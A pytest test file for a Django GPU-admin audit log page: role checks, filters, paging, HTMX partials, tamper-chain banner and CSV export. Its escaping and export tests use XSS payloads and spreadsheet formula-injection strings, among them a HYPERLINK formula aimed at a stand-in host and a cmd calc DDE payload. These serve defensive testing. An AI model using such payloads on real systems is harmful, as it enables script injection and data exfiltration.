"""The audit history page: roles, filters, pages of 50, HTMX partial, chain banner, escaping, CSV export."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from gpuadmin.audit import log
from gpuadmin.audit.models import Action
from tests.audit.helpers import FILTER_CASES, FILTER_IDS, audit_table, tamper

pytestmark = pytest.mark.django_db

ROW = re.compile(r'id="audit-event-(\d+)"')


def shown_sequences(response) -> list[int]:
    return [int(n) for n in ROW.findall(response.content.decode())]


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


# --- who may look --------------------------------------------------------------------


@pytest.mark.parametrize("name", ["audit_log", "audit_export_csv"])
def test_anonymous_is_sent_to_login(client: Client, name: str):
    url = reverse(name)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


@pytest.mark.parametrize("name", ["audit_log", "audit_export_csv"])
def test_an_account_without_a_role_is_refused(client: Client, stranger, name: str):
    client.force_login(stranger)
    assert client.get(reverse(name)).status_code == 403


def test_the_audit_url_is_audit(viewer_client: Client):
    assert reverse("audit_log") == "/audit/"
    assert viewer_client.get("/audit/").status_code == 200


# --- filters and pages ------------------------------------------------------------------


@pytest.mark.parametrize(("query", "expected"), FILTER_CASES, ids=FILTER_IDS)
def test_filters(viewer_client: Client, sample_log, query: dict, expected: list[int]):
    response = viewer_client.get(reverse("audit_log"), query)
    assert response.status_code == 200
    assert shown_sequences(response) == expected


def test_an_invalid_filter_is_reported_and_ignored(viewer_client: Client, sample_log):
    response = viewer_client.get(reverse("audit_log"), {"from": "yesterday", "host": "gpu1"})
    assert shown_sequences(response) == [3, 2, 1]
    assert "from: Enter a valid date. (ignored)" in response.content.decode()


def test_pages_of_fifty_newest_first(viewer_client: Client, record_events):
    record_events(120)
    url = reverse("audit_log")

    first = viewer_client.get(url)
    assert shown_sequences(first) == list(range(120, 70, -1))
    assert "page 1 of 3" in first.content.decode()
    assert shown_sequences(viewer_client.get(url, {"page": 3})) == list(range(20, 0, -1))
    # Out of range or nonsense: the nearest real page, not an error.
    assert shown_sequences(viewer_client.get(url, {"page": 99})) == list(range(20, 0, -1))
    assert shown_sequences(viewer_client.get(url, {"page": "x"})) == list(range(120, 70, -1))


def test_page_links_keep_the_filters(viewer_client: Client, record_events):
    record_events(60, host_name="gpu9")
    record_events(5, host_name="gpu1")
    html = viewer_client.get(reverse("audit_log"), {"host": "gpu9"}).content.decode()
    assert 'href="?host=gpu9&amp;page=2"' in html
    assert f'href="{reverse("audit_export_csv")}?host=gpu9"' in html


def test_htmx_gets_the_table_partial_and_a_browser_the_whole_page(viewer_client: Client, sample_log):
    url = reverse("audit_log")
    partial = viewer_client.get(url, {"host": "gpu1"}, headers={"HX-Request": "true"})
    full = viewer_client.get(url, {"host": "gpu1"})

    assert shown_sequences(partial) == shown_sequences(full) == [3, 2, 1]
    assert partial.content.decode().lstrip().startswith("<div id=\"audit-results\"")
    assert "<html" not in partial.content.decode()
    assert "Chain verifies" not in partial.content.decode()
    assert "<html" in full.content.decode()
    assert 'hx-get="/audit/"' in full.content.decode()
    assert "HX-Request" in full["Vary"]
    # Back button after hx-push-url: htmx asks for the whole page again.
    restore = viewer_client.get(url, headers={"HX-Request": "true", "HX-History-Restore-Request": "true"})
    assert "<html" in restore.content.decode()


# --- the chain banner ------------------------------------------------------------------


def test_the_page_says_the_chain_verifies(viewer_client: Client, record_events):
    events = record_events(3)
    html = viewer_client.get(reverse("audit_log")).content.decode()
    assert "Chain verifies:</strong> 3 events" in html
    assert f"3:{events[-1].hash}" in html
    assert "BROKEN" not in html


def test_the_page_says_where_the_chain_is_broken(viewer_client: Client, record_events):
    record_events(3)
    tamper(f"UPDATE {audit_table()} SET approver_name = 'mallory' WHERE sequence = 2")
    html = viewer_client.get(reverse("audit_log")).content.decode()
    assert "Chain BROKEN at event 2:</strong> hash mismatch" in html
    assert "Chain verifies" not in html


# --- untrusted text ------------------------------------------------------------------


def test_hostile_strings_are_escaped_everywhere(viewer_client: Client, make_user):
    actor = make_user("<b>eve</b>")
    log.record(
        Action.REQUESTED,
        actor=actor,
        host_name='<script>alert("host")</script>',
        requester_name="<i>rq</i>",
        approver_name="<u>ap</u>",
        process_users=['"><img src=x onerror=alert(1)>'],
        targets_summary="pid 1 \u202eexe.txt (<svg onload=alert(2)>)",
        details={"cmd": "</td><script>alert(3)</script>"},
    )
    response = viewer_client.get(reverse("audit_log"), {"requester": "<i>rq</i>"})
    html = response.content.decode()

    assert shown_sequences(response) == [1]
    hostile = ("<script>alert", "<img src=x", "<svg onload", "<b>eve</b>", "<i>rq</i>", "<u>ap</u>", "\u202e")
    for raw in hostile:
        assert raw not in html
    assert "&lt;script&gt;alert(&quot;host&quot;)&lt;/script&gt;" in html
    assert "&lt;/td&gt;&lt;script&gt;alert(3)&lt;/script&gt;" in html
    assert '<span class="ctl" title="control character">\\u202e</span>' in html
    # The filter value comes back in the form, escaped too.
    assert 'value="&lt;i&gt;rq&lt;/i&gt;"' in html


def test_self_approval_deleted_actors_and_request_links(viewer_client: Client, make_user):
    alice = make_user("alice")
    log.record(Action.APPROVED, actor=alice, requester_name="alice", approver_name="alice",
               kill_request_id=9, details={"self_approved": True})
    alice.delete()
    html = viewer_client.get(reverse("audit_log")).content.decode()
    assert f'<a href="{reverse("kill_request_detail", args=[9])}">#9</a>' in html
    assert "self-approved" in html
    assert "alice <span class=\"muted small\">(deleted user)</span>" in html


# --- CSV export -------------------------------------------------------------------------


def test_csv_export_has_every_filtered_event(viewer_client: Client, sample_log):
    response = viewer_client.get(reverse("audit_export_csv"), {"process_user": "carol"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="gpuadmin-audit-')
    header, *rows = csv_rows(response)
    assert header[:4] == ["sequence", "created_at", "action", "actor"]
    assert [int(r[0]) for r in rows] == [4, 3, 2, 1]
    assert rows[-1][1] == "2025-03-01T10:00:00.000000Z"


def test_format_csv_on_the_page_url_is_the_same_export(viewer_client: Client, sample_log):
    page_csv = viewer_client.get(reverse("audit_log"), {"host": "gpu2", "format": "csv"})
    export = viewer_client.get(reverse("audit_export_csv"), {"host": "gpu2"})
    first_column = [r[0] for r in csv_rows(page_csv)]
    assert first_column == [r[0] for r in csv_rows(export)] == ["sequence", "6", "5", "4"]


def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(viewer_client: Client):
    log.record(
        Action.REQUESTED,
        host_name='=HYPERLINK("http://evil.example/"&A1)',
        requester_name="+1+cmd|' /C calc'!A0",
        approver_name="-2",
        process_users=["@SUM(A1:A9)"],
        targets_summary="\tpid 1",
        details={"note": "=1+1"},
        kill_request_id=5,
    )
    header, row = csv_rows(viewer_client.get(reverse("audit_export_csv")))
    cells = dict(zip(header, row, strict=True))

    assert cells["host"] == "'=HYPERLINK(\"http://evil.example/\"&A1)"
    assert cells["requester"] == "'+1+cmd|' /C calc'!A0"
    assert cells["approver"] == "'-2"
    assert cells["process_users"] == "'@SUM(A1:A9)"
    assert cells["targets_summary"] == "'\tpid 1"
    # Cells that start harmlessly are left exactly as stored.
    assert cells["details"] == '{"note":"=1+1"}'
    assert cells["kill_request_id"] == "5"
    assert cells["sequence"] == "1"
